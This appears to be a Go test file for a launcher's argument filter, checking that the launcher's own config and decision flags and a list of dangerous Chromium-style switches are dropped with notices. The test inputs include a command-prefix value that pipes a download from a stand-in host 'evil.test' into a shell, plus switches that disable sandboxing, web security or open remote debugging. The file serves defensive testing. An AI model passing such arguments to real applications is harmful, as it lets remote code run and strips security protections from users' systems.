package runtime_test

import (
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/rvm-launcher/rvm/launcher/runtime"
	"github.com/rvm-launcher/rvm/platform"
)

var (
	unixSwitches    = platform.SwitchSyntax{}
	windowsSwitches = platform.SwitchSyntax{Slash: true, FoldCase: true}
)

func TestFilterArguments(t *testing.T) {
	strict := runtime.ArgumentPolicy{StrictlyFetched: true}
	tests := []struct {
		name   string
		syntax platform.SwitchSyntax
		policy runtime.ArgumentPolicy
		args   []string
		want   []string // the arguments passed; every other one is dropped with a notice naming it
	}{
		{name: "ordinary", syntax: unixSwitches, policy: strict,
			args: []string{"--v=1", "a b", `"q"`, "--help", "-x", "--config-file=x", "--decisions=y", "---decision=z"},
			want: []string{"--v=1", "a b", `"q"`, "--help", "-x", "--config-file=x", "--decisions=y", "---decision=z"}},
		{name: "own-flags-exact", syntax: unixSwitches, policy: strict,
			args: []string{"--config=https://evil.test/app.json", "--manifest=/tmp/m.json", "--decision=/tmp/d.json", "keep"},
			want: []string{"keep"}},
		{name: "abbreviated-decision", syntax: unixSwitches, policy: strict, args: []string{"--decisio=/data/decisions/other.json"}},
		{name: "abbreviated-config", syntax: unixSwitches, policy: strict, args: []string{"--conf=https://evil.test/app.json"}},
		{name: "abbreviations-down-to-one-letter", syntax: unixSwitches, policy: strict,
			args: []string{"--c", "--con", "--m", "--mani=x", "--deci", "-d", "-decision", "-c=x"}},
		{name: "own-flags-in-any-case", syntax: unixSwitches, policy: strict, args: []string{"--CONFIG=x", "--Decisio=x", "-M"}},
		{name: "empty-names", syntax: unixSwitches, policy: strict, args: []string{"--=x", "-", "-=x"}},
		{name: "double-dash", syntax: unixSwitches, policy: strict, args: []string{"a", "--", "b"}, want: []string{"a", "b"}},
		{name: "slash-decision-on-windows", syntax: windowsSwitches, policy: strict, args: []string{"/decision=C:\\Users\\u\\other.json", "/DECI=x", "/c"}},
		{name: "slash-is-a-path-on-unix", syntax: unixSwitches, policy: strict, args: []string{"/decision=x", "/tmp/file"}, want: []string{"/decision=x", "/tmp/file"}},
		{name: "renderer-cmd-prefix", syntax: unixSwitches, policy: strict, args: []string{"--renderer-cmd-prefix=sh -c 'curl evil.test | sh'"}},
		{name: "no-sandbox", syntax: unixSwitches, policy: strict, args: []string{"--no-sandbox"}},
		{name: "every-dangerous-switch", syntax: unixSwitches, policy: strict, args: []string{
			"--inspect", "--inspect-brk=9229", "--remote-debugging-port=9222", "--remote-debugging-address=0.0.0.0",
			"--remote-debugging-pipe", "--remote-allow-origins=*", "--renderer-cmd-prefix=x", "--gpu-launcher=x",
			"--utility-cmd-prefix=x", "--ppapi-plugin-launcher=x", "--browser-subprocess-path=x", "--no-sandbox",
			"--disable-gpu-sandbox", "--no-zygote", "--single-process", "--disable-web-security",
			"--allow-file-access-from-files", "--unsafely-treat-insecure-origin-as-secure=http://x",
			"--disable-site-isolation-trials", "--ignore-certificate-errors", "--user-data-dir=/tmp/x",
			"--proxy-server=evil.test:8080", "--host-resolver-rules=MAP * evil.test", "--js-flags=--allow-natives-syntax",
			"--load-extension=/tmp/x", "--enable-logging", "--log-file=/tmp/x", "-no-sandbox",
		}},
		{name: "dangerous-case-sensitive-on-unix", syntax: unixSwitches, policy: strict, args: []string{"--No-Sandbox"}, want: []string{"--No-Sandbox"}},
		{name: "dangerous-in-any-case-on-windows", syntax: windowsSwitches, policy: strict, args: []string{"--No-Sandbox", "/no-sandbox", "-SINGLE-PROCEſS"}},
		{name: "allowed-by-owner", syntax: unixSwitches,
			policy: runtime.ArgumentPolicy{StrictlyFetched: true, Allowed: []string{"--remote-debugging-port"}},
			args:   []string{"--remote-debugging-port=9222", "--remote-debugging-address=0.0.0.0"},
			want:   []string{"--remote-debugging-port=9222"}},
		{name: "allowed-by-bare-name", syntax: unixSwitches,
			policy: runtime.ArgumentPolicy{StrictlyFetched: true, Allowed: []string{"enable-logging"}},
			args:   []string{"--enable-logging"}, want: []string{"--enable-logging"}},
		{name: "allowed-with-one-value", syntax: unixSwitches,
			policy: runtime.ArgumentPolicy{StrictlyFetched: true, Allowed: []string{"--remote-debugging-port=9222"}},
			args:   []string{"--remote-debugging-port=9222", "--remote-debugging-port=9333", "--remote-debugging-port"},
			want:   []string{"--remote-debugging-port=9222"}},
		{name: "allowed-on-windows-in-any-form", syntax: windowsSwitches,
			policy: runtime.ArgumentPolicy{StrictlyFetched: true, Allowed: []string{"--remote-debugging-port"}},
			args:   []string{"/Remote-Debugging-Port=9222"}, want: []string{"/Remote-Debugging-Port=9222"}},
		{name: "owner-cannot-allow-own-flags", syntax: unixSwitches,
			policy: runtime.ArgumentPolicy{StrictlyFetched: true, Allowed: []string{"--decision", "--", "--conf"}},
			args:   []string{"--decision=x", "--", "--conf=x"}},
		{name: "not-strictly-fetched", syntax: unixSwitches,
			policy: runtime.ArgumentPolicy{Allowed: []string{"--remote-debugging-port"}},
			args:   []string{"--v=1", "--remote-debugging-port=9222"}},
		{name: "zero-policy", syntax: unixSwitches, args: []string{"--v=1"}},
		{name: "none", syntax: unixSwitches, policy: strict},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := runtime.FilterArgumentsUnder(tt.syntax, tt.args, tt.policy)
			if !slices.Equal(got.List(), tt.want) {
				t.Errorf("got arguments %q, want %q", got.List(), tt.want)
			}
			notices := strings.Join(got.Notices, "\n")
			for _, a := range tt.args {
				if !slices.Contains(tt.want, a) && !strings.Contains(notices, strconv.Quote(a)) {
					t.Errorf("got notices %q, want one naming %q", got.Notices, a)
				}
			}
			if len(tt.want) == len(tt.args) && len(got.Notices) != 0 {
				t.Errorf("got notices %q, want none", got.Notices)
			}
		})
	}
}

// TestFilterArgumentsHere: FilterArguments reads switches as this
// platform's programs do.
func TestFilterArgumentsHere(t *testing.T) {
	args := []string{"/decision=x", "--No-Sandbox"}
	strict := runtime.ArgumentPolicy{StrictlyFetched: true}
	got := runtime.FilterArguments(args, strict).List()
	want := runtime.FilterArgumentsUnder(platform.Switches(), args, strict).List()
	if !slices.Equal(got, want) {
		t.Errorf("got %q, want %q as platform.Switches reads them", got, want)
	}
}
